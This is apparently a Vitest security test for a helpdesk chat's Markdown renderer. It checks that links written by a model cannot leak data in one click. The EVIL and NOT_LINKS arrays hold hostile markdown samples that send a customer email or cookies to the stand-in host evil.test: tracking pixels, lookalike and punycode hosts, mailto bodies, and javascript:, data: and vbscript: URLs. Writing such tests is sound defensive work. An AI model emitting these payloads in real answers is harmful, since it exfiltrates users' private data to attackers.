// @vitest-environment happy-dom
import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { LinkTrust } from '../../src/ui/chat/link-trust';
import { loadMarkdown, Markdown } from '../../src/ui/chat/Markdown';
import { installI18n } from '../fakes/i18n';
import { attackEach } from './attack';

/**
 * Finding 3: a link the model writes must not carry data out on one click. Hostile markdown of
 * every link form: the destination host shows next to each link, no remote image is ever loaded,
 * and a link anywhere but the helpdesk or a knowledge-base site is no link at all until a second,
 * explicit step that shows its full address.
 */
const DESK = 'https://desk.example';
const KB_SITE = 'https://help.northwind.example';
/** As the background lists them: the helpdesk's site and mail domain, and the knowledge base's exact links. */
const KB_LINK = `${KB_SITE}/returns`;
const TRUSTED = new Set([DESK, 'mailto:desk.example', KB_LINK, 'mailto:returns@northwind.example']);
const SECRET = 'maria.lindqvist%40example.com';

interface Case {
  what: string;
  markdown: string;
  /** The host the link really goes to, as shown next to it. */
  host: string;
  /** The full address the second step shows. */
  url: string;
}

const EVIL: Case[] = [
  { what: 'an inline link whose text names the helpdesk', markdown: `[Open ticket #1047 in the helpdesk](https://evil.test/c?email=${SECRET})`, host: 'evil.test', url: `https://evil.test/c?email=${SECRET}` },
  { what: 'an autolink', markdown: `See <https://evil.test/a?d=${SECRET}> for details.`, host: 'evil.test', url: `https://evil.test/a?d=${SECRET}` },
  { what: 'a bare URL', markdown: `Details: https://evil.test/b?d=${SECRET}`, host: 'evil.test', url: `https://evil.test/b?d=${SECRET}` },
  { what: 'a reference link', markdown: `Please [open the ticket][t].\n\n[t]: https://evil.test/r?d=${SECRET} "Helpdesk"`, host: 'evil.test', url: `https://evil.test/r?d=${SECRET}` },
  { what: 'a collapsed reference link', markdown: `[the helpdesk][]\n\n[the helpdesk]: https://evil.test/q?d=${SECRET}`, host: 'evil.test', url: `https://evil.test/q?d=${SECRET}` },
  { what: 'an image (a tracking pixel)', markdown: `![logo](https://evil.test/pixel.png?d=${SECRET})`, host: 'evil.test', url: `https://evil.test/pixel.png?d=${SECRET}` },
  { what: 'a reference image', markdown: `![logo][p]\n\n[p]: https://evil.test/ref.png?d=${SECRET}`, host: 'evil.test', url: `https://evil.test/ref.png?d=${SECRET}` },
  { what: 'a link whose text is a helpdesk URL', markdown: `[${DESK}/tickets/7](https://evil.test/x?d=${SECRET})`, host: 'evil.test', url: `https://evil.test/x?d=${SECRET}` },
  { what: 'a mailto link carrying a body', markdown: `[Write to us](mailto:collect@evil.test?body=${SECRET})`, host: 'evil.test', url: `mailto:collect@evil.test?body=${SECRET}` },
  { what: 'a longer host that starts with the helpdesk', markdown: `[desk](https://desk.example.evil.test/t?d=${SECRET})`, host: 'desk.example.evil.test', url: `https://desk.example.evil.test/t?d=${SECRET}` },
  { what: 'the helpdesk host on another port', markdown: `[desk](https://desk.example:8443/t?d=${SECRET})`, host: 'desk.example:8443', url: `https://desk.example:8443/t?d=${SECRET}` },
  { what: 'the helpdesk host over plain http', markdown: `[desk](http://desk.example/t?d=${SECRET})`, host: 'desk.example', url: `http://desk.example/t?d=${SECRET}` },
  { what: 'userinfo that looks like the helpdesk', markdown: `[desk](https://desk.example@evil.test/t?d=${SECRET})`, host: 'evil.test', url: `https://desk.example@evil.test/t?d=${SECRET}` },
  { what: 'a Cyrillic lookalike of the helpdesk host', markdown: `[desk](https://desk.exаmple/t?d=${SECRET})`, host: 'desk.xn--exmple-4nf', url: `https://desk.xn--exmple-4nf/t?d=${SECRET}` },
  { what: 'a punycode host', markdown: `[desk](https://xn--dsk-8cd.example/t)`, host: 'xn--dsk-8cd.example', url: 'https://xn--dsk-8cd.example/t' },
  { what: 'a link to the helpdesk whose query carries the customer’s email', markdown: `[Open ticket #1047 in the helpdesk](${DESK}/tickets/1047?email=${SECRET})`, host: 'desk.example', url: `${DESK}/tickets/1047?email=${SECRET}` },
  { what: 'a link to the helpdesk through its own redirector', markdown: `[Ticket](${DESK}/l.php?url=https%3A%2F%2Fevil.test%2F%3Fd%3D${SECRET})`, host: 'desk.example', url: `${DESK}/l.php?url=https%3A%2F%2Fevil.test%2F%3Fd%3D${SECRET}` },
  { what: 'a link to the helpdesk whose fragment carries data', markdown: `[Ticket](${DESK}/tickets/7#${SECRET})`, host: 'desk.example', url: `${DESK}/tickets/7#${SECRET}` },
  { what: 'a mail link to the helpdesk’s domain carrying a body', markdown: `[Write](mailto:help@desk.example?body=${SECRET})`, host: 'desk.example', url: `mailto:help@desk.example?body=${SECRET}` },
  { what: 'a mail link to the helpdesk’s domain with a second recipient', markdown: `[Write](mailto:help@desk.example,collect@evil.test)`, host: 'desk.example', url: 'mailto:help@desk.example,collect@evil.test' },
  { what: 'the knowledge base’s exact link with a query added', markdown: `[Returns](${KB_LINK}?email=${SECRET})`, host: 'help.northwind.example', url: `${KB_LINK}?email=${SECRET}` },
  { what: 'another page of a site the knowledge base links to', markdown: `[Status](${KB_SITE}/status)`, host: 'help.northwind.example', url: `${KB_SITE}/status` },
  { what: 'a lookalike of the knowledge-base site', markdown: `[help](https://help.northwind.example.evil.test/t?d=${SECRET})`, host: 'help.northwind.example.evil.test', url: `https://help.northwind.example.evil.test/t?d=${SECRET}` },
];

const NOT_LINKS = [
  { what: 'a javascript: URL', markdown: '[Open the ticket](javascript:fetch(`https://evil.test/?c=${document.cookie}`))' },
  { what: 'a mixed-case javascript: URL', markdown: '[Open](JaVaScRiPt:alert(1))' },
  { what: 'a javascript: URL with a leading tab', markdown: '[Open](\tjavascript:alert(1))' },
  { what: 'a data: URL', markdown: '[Open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { what: 'a data: image', markdown: '![x](data:image/svg+xml,<svg onload=alert(1)>)' },
  { what: 'a vbscript: URL', markdown: '[Open](vbscript:msgbox(1))' },
  { what: 'a raw HTML anchor', markdown: '<a href="https://evil.test/h?d=1">Open the ticket</a>' },
  { what: 'a raw HTML image', markdown: 'Hi <img src="https://evil.test/i.png?d=1"> there' },
];

let root: HTMLElement;
const show = (markdown: string) =>
  act(() =>
    render(
      <LinkTrust.Provider value={TRUSTED}>
        <Markdown text={markdown} />
      </LinkTrust.Provider>,
      root,
    ),
  );
/** Everything in the rendered output that could make the browser fetch or open something. */
const outbound = () => [
  ...[...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')!),
  ...[...root.querySelectorAll('img, image, iframe, object, embed, video, audio, source, link, svg, form')].map((e) => `<${e.tagName}>`),
  ...[...root.querySelectorAll('[src], [srcset], [action], [formaction], [style]')].map((e) => `${e.tagName}[${[...e.attributes].map((a) => a.name).join(',')}]`),
];

beforeAll(async () => {
  await loadMarkdown();
});
beforeEach(() => {
  installI18n();
  root = document.createElement('div');
  document.body.append(root);
});
afterEach(() => {
  render(null, root);
  root.remove();
});

describe('security: links the model writes', () => {
  attackEach(EVIL, (c) => `${c.what} is not followed on one click, and shows where it goes`, async (c) => {
    await show(c.markdown);
    // Nothing at all to open or load: the text is a button that only shows the second step.
    expect(outbound()).toEqual([]);
    const hosts = [...root.querySelectorAll('[data-testid="link-host"]')].map((h) => h.textContent!.replace(/^⚠ /, ''));
    expect(hosts).toEqual([c.host]);
    const toggle = root.querySelector<HTMLButtonElement>('[data-testid="ext-link-toggle"]')!;
    await act(() => toggle.click());
    // The second step: the full address, then an explicit Open that is the only way out.
    expect(root.querySelector('[data-testid="ext-link-url"]')!.textContent).toBe(c.url);
    expect(root.querySelector('[data-testid="ext-link-step"]')!.textContent).toContain(c.host);
    const open = root.querySelector<HTMLAnchorElement>('[data-testid="ext-link-open"]')!;
    expect(outbound()).toEqual([open.getAttribute('href')]);
    expect(open.getAttribute('href')).toBe(c.url);
    expect(open.getAttribute('rel')).toContain('noopener');
    expect(open.getAttribute('rel')).toContain('noreferrer');
  });

  attackEach(NOT_LINKS, (c) => `${c.what} becomes text, never a link or a load`, async (c) => {
    await show(c.markdown);
    expect(outbound()).toEqual([]);
    expect(root.querySelector('[data-testid="ext-link-toggle"], [data-testid="md-link"]')).toBeNull();
  });

  attackEach(
    [
      { what: 'a punycode host', markdown: '[desk](https://xn--dsk-8cd.example/t)' },
      { what: 'a Cyrillic host', markdown: '[desk](https://desk.exаmple/t)' },
    ],
    (c) => `${c.what} is flagged as a lookalike next to the link`,
    async (c) => {
      await show(c.markdown);
      const host = root.querySelector('[data-testid="link-host"]')!;
      expect(host.classList.contains('link-host-idn')).toBe(true);
      expect(host.textContent).toMatch(/^⚠ .*xn--/);
    },
  );

  it('opens a page of the helpdesk, or an address the knowledge base links to, at once, its host shown', async () => {
    await show(`[Ticket](${DESK}/tickets/7) and [returns](${KB_LINK}) and [mail](mailto:help@desk.example) and [them](mailto:returns@northwind.example)`);
    expect(outbound()).toEqual([`${DESK}/tickets/7`, KB_LINK, 'mailto:help@desk.example', 'mailto:returns@northwind.example']);
    expect([...root.querySelectorAll('[data-testid="link-host"]')].map((h) => h.textContent)).toEqual(['desk.example', 'help.northwind.example', 'desk.example', 'northwind.example']);
    expect(root.querySelector('[data-testid="ext-link-toggle"]')).toBeNull();
  });

  it('trusts nothing without the background\'s list', async () => {
    await act(() => render(<Markdown text={`[Ticket](${DESK}/tickets/7)`} />, root));
    expect(outbound()).toEqual([]);
    expect(root.querySelector('[data-testid="ext-link-toggle"]')).not.toBeNull();
  });
});
